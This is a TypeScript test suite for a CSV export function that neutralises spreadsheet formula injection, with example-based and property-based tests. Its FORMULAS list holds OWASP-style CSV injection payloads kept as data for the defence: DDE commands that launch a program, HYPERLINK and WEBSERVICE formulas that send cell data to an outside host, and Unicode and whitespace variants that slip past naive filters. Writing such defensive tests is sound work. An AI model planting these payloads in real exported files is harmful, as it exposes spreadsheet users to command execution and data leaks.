import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvCell, csvRow, neutralised, plainNumber } from '../../src/files/csv-write.ts';

/** OWASP's examples, and what passes filters that look at the first character only. */
const FORMULAS = [
  '=1+1',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '=HYPERLINK("https://example.com?leak="&A1&A2,"Click")',
  '=WEBSERVICE(CONCATENATE("https://example.com/",A1))',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@',
  '-',
  '+',
  '-1-1',
  '+44-7700-900123',
  '+447700900123+1',
  '-12.5.1',
  '-A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\ttext',
  '\rtext',
  '\ntext',
  '\0text',
  '\t-12.5',
  ' =1+1',
  '   @SUM(1)',
  '"=1+1"',
  ' " =1+1',
  '“=1+1”',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u000b=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  ' ＝1+1',
];

const HARMLESS = [
  '',
  'Council Tax',
  '-12.5',
  '-1',
  '+3',
  '-.5',
  '-1,234.50',
  '-1.2e-5',
  ' -12.5',
  '+447700900123',
  '+44 7700 900123',
  '07700 900123',
  'zoe@example.com',
  '2026-11-23',
  '40 to 49',
  '90+',
  "O'Testperson",
  'a=b',
];

test.each(FORMULAS.map((cell) => [JSON.stringify(cell), cell]))('%s is neutralised', (_, cell) => {
  expect(neutralised(cell)).toBe(true);
  expect(parse(csvRow([cell, 'x']))).toEqual([[`'${cell}`, 'x']]);
});

test.each(HARMLESS.map((cell) => [JSON.stringify(cell), cell]))('%s survives', (_, cell) => {
  expect(neutralised(cell)).toBe(false);
  expect(parse(csvRow([cell, 'x']))).toEqual([[cell, 'x']]);
});

test('quotes what RFC 4180 and spaces at the ends need, and nothing else', () => {
  expect(['a', 'a b', 'a,b', 'say "x"', 'a\nb', 'a\rb', ' a', 'a ', 'a\t'].map(csvCell)).toEqual([
    'a',
    'a b',
    '"a,b"',
    '"say ""x"""',
    '"a\nb"',
    '"a\rb"',
    '" a"',
    '"a "',
    '"a\t"',
  ]);
  expect(csvCell('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
});

test('a record ends with CR LF; one empty cell alone is still a record', () => {
  expect(csvRow(['a', '', 'c'])).toBe('a,,c\r\n');
  expect(csvRow(['', ''])).toBe(',\r\n');
  expect(parse(csvRow([''])).length).toBe(1);
});

const pieces = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '＝',
  '－',
  '\t',
  '\r',
  '\n',
  '\0',
  ' ',
  '"',
  "'",
  ',',
  ';',
  '1',
  '.5',
  'A1',
  'e',
  'é',
  '😀',
);
const cells = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.array(pieces, { maxLength: 8 }).map((all) => all.join('')),
);
const rows = fc
  .integer({ min: 1, max: 6 })
  .chain((width) => fc.array(fc.array(cells, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }));

test('csv-parse reads back the very same cells, but for the apostrophe of the neutralised', () => {
  fc.assert(
    fc.property(rows, (table) => {
      const expected = table.map((row) => row.map((cell) => (neutralised(cell) ? `'${cell}` : cell)));
      expect(parse(table.map(csvRow).join(''), { record_delimiter: '\r\n' })).toEqual(expected);
    }),
    { numRuns: 1000 },
  );
});

test('what is read back starts no formula: a sign comes first only in a number or a telephone number', () => {
  fc.assert(
    fc.property(cells, (cell) => {
      const [[read = ''] = []] = parse(csvRow([cell, 'x']), { record_delimiter: '\r\n' }) as string[][];
      const seen = read.replace(/^[\s"]+/u, '');
      expect('\t\r\n\0'.includes(read.charAt(0) || 'x')).toBe(false);
      if (/^[=@＝＋－＠]/.test(seen)) expect.fail('a formula');
      if (/^[+-]/.test(seen)) expect(seen.trim()).toMatch(/^[+-][\d .,]*(e[+-]?\d+)?$/);
    }),
    { numRuns: 2000 },
  );
});

test('plainNumber', () => {
  expect(['1', '-1', '+3', '1,000', '1.5', '.5', '1e5'].every(plainNumber)).toBe(true);
  expect(['', '-', '1-1', '1,00', '1.', '--1', '0x1', '1 000', 'NaN'].some(plainNumber)).toBe(false);
});
